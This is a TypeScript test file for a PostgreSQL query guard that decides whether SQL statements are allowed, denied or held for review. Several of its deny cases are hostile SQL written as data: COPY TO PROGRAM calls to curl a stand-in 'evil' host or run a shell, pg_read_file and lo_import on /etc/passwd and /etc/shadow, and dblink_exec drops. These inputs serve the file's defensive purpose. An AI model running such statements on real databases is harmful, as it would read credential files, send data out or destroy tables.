import { beforeAll, describe, expect, it } from 'vitest';
import { defaultPolicy, parsePolicy } from '../policy/schema';
import { evaluate, initGuard } from './index';

beforeAll(async () => {
  await initGuard();
});

type Case = [sql: string, action: 'allow' | 'deny' | 'review', ruleId?: string];

const allowed: Case[] = [
  ['select 1', 'allow'],
  ['SELECT * FROM customers WHERE id = 42', 'allow'],
  ["select c.id, o.total from customers c join orders o on o.customer_id = c.id where o.created_at > now() - interval '1 day'", 'allow'],
  ["SELECT 'DROP TABLE customers'", 'allow'],
  ["select 'delete from orders' as note", 'allow'],
  ['SELECT $$rm -rf /; DROP TABLE x$$', 'allow'],
  ['select $tag$ truncate orders $tag$', 'allow'],
  ["select E'\\'; drop table x; --'", 'allow'],
  ['select "drop" from "truncate"', 'allow'],
  ['-- DROP TABLE customers\nselect 1', 'allow'],
  ['/* DELETE FROM orders */ select count(*) from orders', 'allow'],
  ['/* nested /* comment */ DROP TABLE x */ select 1', 'allow'],
  ['select pg_read_file_is_not_a_function_name from t', 'allow'],
  ['select * from pg_stat_activity', 'allow'],
  ['select pg_cancel_backend(123)', 'allow'],
  ['SELECT count(*) FROM orders GROUP BY status HAVING count(*) > 10', 'allow'],
  ["with recent as (select * from orders where created_at > now() - interval '1h') select count(*) from recent", 'allow'],
  ['select * from customers for update', 'allow'],
  ["insert into audit_notes (note) values ('checked')", 'allow'],
  ['INSERT INTO t (a) SELECT a FROM u WHERE a > 0', 'allow'],
  ['insert into t values (1) on conflict (id) do update set v = excluded.v', 'allow'],
  ["update orders set status = 'shipped' where id = 7", 'allow'],
  ['UPDATE orders SET status = $1 WHERE id = $2', 'allow'],
  ['update t set a = 1 where a = b', 'allow'],
  ['update t set a = 1 where 1 = 2', 'allow'],
  ['delete from sessions where expires_at < now()', 'allow'],
  ['DELETE FROM t WHERE id IN (SELECT id FROM u)', 'allow'],
  ['delete from t where current of c', 'allow'],
  ['delete from t where id = 1 returning *', 'allow'],
  ['with d as (delete from t where id = 3 returning id) select * from d', 'allow'],
  ['begin', 'allow'],
  ['BEGIN; select 1; COMMIT;', 'allow'],
  ['start transaction read only', 'allow'],
  ['rollback', 'allow'],
  ['savepoint a; rollback to savepoint a; release savepoint a', 'allow'],
  ['set search_path = app, public', 'allow'],
  ["SET statement_timeout = '5s'", 'allow'],
  ['set default_transaction_read_only = on', 'allow'],
  ['set transaction read only', 'allow'],
  ['show server_version', 'allow'],
  ['explain select * from orders where id = 1', 'allow'],
  ['explain analyze select * from orders where id = 1', 'allow'],
  ['explain (analyze false) delete from orders', 'allow'],
  ['explain delete from orders', 'allow'],
  ['explain (format json, costs off) update t set a = 1', 'allow'],
  ['prepare q(int) as select * from t where id = $1', 'allow'],
  ['execute q(1)', 'allow'],
  ['deallocate q', 'allow'],
  ['create table notes (id serial primary key, body text)', 'allow'],
  ['create index concurrently on orders (created_at)', 'allow'],
  ['alter table orders add column note text', 'allow'],
  ["alter table orders alter column note set default ''", 'allow'],
  ['create view v as select 1', 'allow'],
  ['create table t2 as select * from t where false', 'allow'],
  ['copy t to stdout', 'allow'],
  ['COPY t (a, b) FROM STDIN WITH (FORMAT csv)', 'allow'],
  ['copy (select * from t) to stdout with csv header', 'allow'],
  ["listen ch; notify ch, 'x'", 'allow'],
  ["select set_config('search_path', 'public', false)", 'allow'],
  ["select set_config('default_transaction_read_only', 'on', false)", 'allow'],
  ['vacuum analyze orders', 'allow'],
  ['analyze orders', 'allow'],
  ['select U&"d\\0061t\\+000061" from t', 'allow'],
  ["select U&'\\0044ROP TABLE x'", 'allow'],
  ['SeLeCt * FrOm CuStOmErS', 'allow'],
  ['select * from "Customers" where "Email" like \'%@example.com\'', 'allow'],
  ["select jsonb_path_query(data, '$.a') from t", 'allow'],
  ['select lo_get(123)', 'allow'],
  ['call refresh_stats()', 'allow'],
  ['declare c cursor for select * from t', 'allow'],
  ['fetch 10 from c', 'allow'],
  ['close c', 'allow'],
  ["comment on table t is 'drop me later'", 'allow'],
  ['select 1;', 'allow'],
  ['', 'allow'],
  [';;', 'allow'],
  ['merge into t using u on t.id = u.id when matched then update set v = u.v', 'allow'],
];

const denied: Case[] = [
  ['DELETE FROM customers', 'deny', 'delete-without-where'],
  ['delete from customers', 'deny', 'delete-without-where'],
  ['DeLeTe FrOm "customers"', 'deny', 'delete-without-where'],
  ['delete from public.customers', 'deny', 'delete-without-where'],
  ['delete from only customers', 'deny', 'delete-without-where'],
  ['DELETE FROM t WHERE 1=1', 'deny', 'delete-without-where'],
  ['delete from t where true', 'deny', 'delete-without-where'],
  ["delete from t where 'a'='a'", 'deny', 'delete-without-where'],
  ['delete from t where 1 < 2', 'deny', 'delete-without-where'],
  ['delete from t where not false', 'deny', 'delete-without-where'],
  ['delete from t where 1=1 and 2=2', 'deny', 'delete-without-where'],
  ['delete from t where id = 5 or true', 'deny', 'delete-without-where'],
  ['delete from t where id = id', 'deny', 'delete-without-where'],
  ["delete from t where 't'::boolean", 'deny', 'delete-without-where'],
  ['delete from t where true is true', 'deny', 'delete-without-where'],
  ['delete from t using u', 'deny', 'delete-without-where'],
  ['delete from t returning *', 'deny', 'delete-without-where'],
  ['/* harmless */ delete /* really */ from t -- all of it', 'deny', 'delete-without-where'],
  ['select 1; delete from t', 'deny', 'delete-without-where'],
  ['delete from t; select 1', 'deny', 'delete-without-where'],
  ['with x as (delete from t returning *) select * from x', 'deny', 'delete-without-where'],
  ['with x as (select 1) delete from t', 'deny', 'delete-without-where'],
  ['prepare p as delete from t', 'deny', 'delete-without-where'],
  ['explain analyze delete from t', 'deny', 'delete-without-where'],
  ['create rule r as on insert to t do also delete from u', 'deny', 'delete-without-where'],
  ['UPDATE customers SET email = NULL', 'deny', 'update-without-where'],
  ['update t set a = 1 where 1 = 1', 'deny', 'update-without-where'],
  ["update t set a = 1 where 'x' = 'x'", 'deny', 'update-without-where'],
  ['update t set a = 1 where true or id = 3', 'deny', 'update-without-where'],
  ['update t set a = 1 from u', 'deny', 'update-without-where'],
  ['with x as (update t set a = 1 returning *) select count(*) from x', 'deny', 'update-without-where'],
  ['prepare p2 as update t set a = 2', 'deny', 'update-without-where'],
  ['DROP TABLE customers', 'deny', 'drop'],
  ['drop table if exists customers cascade', 'deny', 'drop'],
  ['drop table a, b', 'deny', 'drop'],
  ['DROP SCHEMA public CASCADE', 'deny', 'drop'],
  ['drop database demo', 'deny', 'drop'],
  ['drop index orders_created_at_idx', 'deny', 'drop'],
  ['drop view v', 'deny', 'drop'],
  ['drop materialized view mv', 'deny', 'drop'],
  ['drop function f(int)', 'deny', 'drop'],
  ['drop role bob', 'deny', 'drop'],
  ['drop owned by bob', 'deny', 'drop'],
  ['drop sequence s', 'deny', 'drop'],
  ['drop trigger tr on t', 'deny', 'drop'],
  ['drop extension pgcrypto', 'deny', 'drop'],
  ['drop type mood', 'deny', 'drop'],
  ['dRoP tAbLe "Customers"', 'deny', 'drop'],
  ['select 1; drop table t; select 2', 'deny', 'drop'],
  ['TRUNCATE customers', 'deny', 'truncate'],
  ['truncate table a, b restart identity cascade', 'deny', 'truncate'],
  ['truncate only t', 'deny', 'truncate'],
  ['alter table customers drop column email', 'deny', 'alter-drop-column'],
  ['ALTER TABLE t DROP COLUMN IF EXISTS x CASCADE', 'deny', 'alter-drop-column'],
  ['alter table t drop constraint t_pkey', 'deny', 'alter-drop-column'],
  ['alter table t add column y int, drop column x', 'deny', 'alter-drop-column'],
  ['grant all on customers to public', 'deny', 'grant-revoke'],
  ['GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob', 'deny', 'grant-revoke'],
  ['revoke insert on t from bob', 'deny', 'grant-revoke'],
  ['grant admin to bob', 'deny', 'grant-revoke'],
  ['alter default privileges grant select on tables to bob', 'deny', 'grant-revoke'],
  ["copy t to program 'curl http://evil'", 'deny', 'copy-program'],
  ["COPY t FROM PROGRAM 'cat /etc/passwd'", 'deny', 'copy-program'],
  ["copy (select 1) to program 'sh'", 'deny', 'copy-program'],
  ["copy t from '/etc/passwd'", 'deny', 'copy-program'],
  ["copy t to '/tmp/out.csv'", 'deny', 'copy-program'],
  ["select pg_read_file('/etc/passwd')", 'deny', 'file-and-shell-functions'],
  ["select pg_catalog.pg_read_file('/etc/passwd')", 'deny', 'file-and-shell-functions'],
  ["SELECT PG_READ_FILE('/etc/passwd')", 'deny', 'file-and-shell-functions'],
  ['select "pg_read_file"(\'/etc/passwd\')', 'deny', 'file-and-shell-functions'],
  ["select pg_read_binary_file('/etc/shadow')", 'deny', 'file-and-shell-functions'],
  ["select * from pg_ls_dir('/')", 'deny', 'file-and-shell-functions'],
  ["select pg_stat_file('/etc/passwd')", 'deny', 'file-and-shell-functions'],
  ["select lo_import('/etc/passwd')", 'deny', 'file-and-shell-functions'],
  ["select lo_export(1234, '/tmp/x')", 'deny', 'file-and-shell-functions'],
  ["select dblink_exec('host=x', 'drop table t')", 'deny', 'file-and-shell-functions'],
  ["select * from dblink('host=x', 'select 1') as t(a int)", 'deny', 'file-and-shell-functions'],
  ["select id from t where id = (select length(pg_read_file('/etc/passwd')))", 'deny', 'file-and-shell-functions'],
  ["with f as (select pg_read_file('/etc/passwd') as c) select * from f", 'deny', 'file-and-shell-functions'],
  ["select coalesce(null, pg_ls_dir('.'))", 'deny', 'file-and-shell-functions'],
  ["insert into t select pg_read_file('x')", 'deny', 'file-and-shell-functions'],
  ["select * from t where exists (select 1 from pg_ls_dir('/root'))", 'deny', 'file-and-shell-functions'],
  ['set default_transaction_read_only = off', 'deny', 'read-only-override'],
  ['SET default_transaction_read_only TO false', 'deny', 'read-only-override'],
  ["set session default_transaction_read_only = 'off'", 'deny', 'read-only-override'],
  ['set transaction_read_only = off', 'deny', 'read-only-override'],
  ['set transaction read write', 'deny', 'read-only-override'],
  ['set session characteristics as transaction read write', 'deny', 'read-only-override'],
  ['begin read write', 'deny', 'read-only-override'],
  ['start transaction isolation level serializable, read write', 'deny', 'read-only-override'],
  ["select set_config('default_transaction_read_only', 'off', false)", 'deny', 'read-only-override'],
  ["select set_config('transaction_read_only', 'false', true)", 'deny', 'read-only-override'],
  ['alter role bob set default_transaction_read_only = off', 'deny', 'read-only-override'],
  ['explain analyze insert into t values (1)', 'deny', 'explain-analyze-write'],
  ['explain (analyze) update t set a = 1 where id = 1', 'deny', 'explain-analyze-write'],
  ['EXPLAIN (ANALYZE true, BUFFERS) delete from t where id = 1', 'deny', 'explain-analyze-write'],
  ['explain analyze with x as (delete from t where id = 1 returning *) select * from x', 'deny', 'explain-analyze-write'],
  ['explain analyze create table t3 as select 1', 'deny', 'explain-analyze-write'],
  ['selec * from t', 'deny', 'parse-error'],
  ['select * from', 'deny', 'parse-error'],
  ["select 'unterminated", 'deny', 'parse-error'],
  ['delete from t where', 'deny', 'parse-error'],
  ['select 1; drop tabel t', 'deny', 'parse-error'],
  ['DROP TABLE customers\u0000', 'deny', 'parse-error'],
];

// DO blocks are read statement by statement (more in routine.test.ts): only SQL built at run time, or code in a
// language hoop cannot read, is held
const reviewed: Case[] = [
  ["do $$ begin execute 'drop table ' || 't'; end $$", 'review', 'dynamic-sql'],
  ["DO LANGUAGE plpython3u $x$ plpy.execute('drop table t') $x$", 'review', 'dynamic-sql'],
  ["select 1; do $$ begin execute format('truncate %I', 't'); end $$", 'review', 'dynamic-sql'],
  ["do $$ begin execute 'drop table t'; end $$", 'deny', 'drop'],
  ['DO LANGUAGE plpgsql $x$ BEGIN PERFORM 1; END $x$', 'allow'],
  ["do 'begin null; end'", 'allow'],
  ['select 1; do $$ begin null; end $$', 'allow'],
  // deny beats review in one string
  ["do $$ begin execute $x$drop $x$ || 'table t'; end $$; drop table t", 'deny', 'drop'],
];

describe('built-in guardrails on the default policy', () => {
  const policy = defaultPolicy();
  it.each([...allowed, ...denied, ...reviewed])('%s → %s %s', (sql, action, ruleId) => {
    const d = evaluate(sql, policy);
    expect({ action: d.action, ruleId: d.ruleId }).toEqual({ action, ruleId });
    if (action !== 'allow') {
      expect(d.reason).toBeTruthy();
      expect(d.hint).toBeTruthy();
      expect(d.sqlstate).toBe('42501');
    }
  });

  it('has at least 150 cases', () => {
    expect(allowed.length + denied.length + reviewed.length).toBeGreaterThanOrEqual(150);
  });

  it('describes every statement of a multi-statement string', () => {
    const d = evaluate('select 1; update t set a = 1 where id = 2; delete from t', policy);
    expect(d.statements.map((s) => [s.command, s.kind, s.action])).toEqual([
      ['SELECT', 'read', 'allow'],
      ['UPDATE', 'write', 'allow'],
      ['DELETE', 'write', 'deny'],
    ]);
    expect(d.statements[2]!.text).toBe('delete from t');
    expect(d.reason).toBe('DELETE without a WHERE clause would touch every row');
  });
});

describe('read-only connections', () => {
  const policy = defaultPolicy();
  const cases: Case[] = [
    ['select * from t', 'allow'],
    ['with x as (select 1) select * from x', 'allow'],
    ['begin; select 1; commit', 'allow'],
    ['show all', 'allow'],
    ['explain select 1', 'allow'],
    ['copy t to stdout', 'allow'],
    ['insert into t values (1)', 'deny', 'read-only'],
    ['update t set a = 1 where id = 1', 'deny', 'read-only'],
    ['delete from t where id = 1', 'deny', 'read-only'],
    ['create table x (a int)', 'deny', 'read-only'],
    ['with d as (delete from t where id = 1 returning 1) select * from d', 'deny', 'read-only'],
    ['select * into newtable from t', 'deny', 'read-only'],
    ['copy t from stdin', 'deny', 'read-only'],
    ['explain analyze delete from t where id = 1', 'deny', 'read-only'],
    ['begin read write', 'deny', 'read-only'],
    ['set default_transaction_read_only = off', 'deny', 'read-only'],
    ['vacuum t', 'deny', 'read-only'],
    ['do $$ begin null; end $$', 'deny', 'read-only'],
    ['call p()', 'deny', 'read-only'],
    ['prepare w as insert into t values (1)', 'deny', 'read-only'],
  ];
  it.each(cases)('%s → %s %s', (sql, action, ruleId) => {
    const d = evaluate(sql, policy, { readOnly: true });
    expect({ action: d.action, ruleId: d.ruleId }).toEqual({ action, ruleId });
  });
  it('follows the policy flag too', () => {
    expect(evaluate('insert into t values (1)', parsePolicy({ name: 'ro', readOnly: true })).ruleId).toBe('read-only');
  });
});

describe('policy settings and custom rules', () => {
  it('switches a built-in off or changes its action', () => {
    const off = parsePolicy({ name: 'p', guardrails: { builtins: { truncate: { enabled: false } } } });
    expect(evaluate('truncate t', off).action).toBe('allow');
    const review = parsePolicy({ name: 'p', guardrails: { builtins: { drop: { action: 'review' } } } });
    expect(evaluate('drop table t', review)).toMatchObject({ action: 'review', ruleId: 'drop' });
  });

  it('lets an allow rule whitelist one table for a built-in', () => {
    const p = parsePolicy({
      name: 'p',
      guardrails: { rules: [{ id: 'scratch-truncate', action: 'allow', match: { commands: ['TRUNCATE'], tables: ['scratch_*'] } }] },
    });
    expect(evaluate('truncate scratch_import', p).action).toBe('allow');
    expect(evaluate('truncate customers', p)).toMatchObject({ action: 'deny', ruleId: 'truncate' });
  });

  it('matches custom rules by kind, command, table glob and function', () => {
    const p = parsePolicy({
      name: 'p',
      guardrails: {
        rules: [
          {
            id: 'no-payments-writes',
            action: 'deny',
            message: 'payments are written by the billing service only',
            match: { kinds: ['write'], tables: ['billing.*'] },
          },
          { id: 'review-ddl', action: 'review', match: { kinds: ['ddl'] } },
          { id: 'no-sleep', action: 'deny', match: { functions: ['pg_sleep'] } },
          { id: 'review-index', action: 'review', match: { commands: ['CREATE INDEX'] } },
        ],
      },
    });
    expect(evaluate('update billing.payments set amount = 0 where id = 1', p)).toMatchObject({
      action: 'deny',
      ruleId: 'no-payments-writes',
      reason: 'payments are written by the billing service only',
    });
    expect(evaluate('select * from billing.payments', p).action).toBe('allow');
    expect(evaluate('create table x (a int)', p)).toMatchObject({ action: 'review', ruleId: 'review-ddl' });
    expect(evaluate('select pg_sleep(10)', p)).toMatchObject({ action: 'deny', ruleId: 'no-sleep' });
    expect(evaluate('select pg_catalog.pg_sleep(10)', p)).toMatchObject({ action: 'deny', ruleId: 'no-sleep' });
  });

  it('refuses malformed policies with every problem listed', () => {
    expect(() => parsePolicy({ name: '', guardrails: { builtins: { nope: {} }, rules: [{ id: 'Bad Id', action: 'maybe', match: {} }] } })).toThrow(
      /name[\s\S]*guardrails/,
    );
  });
});
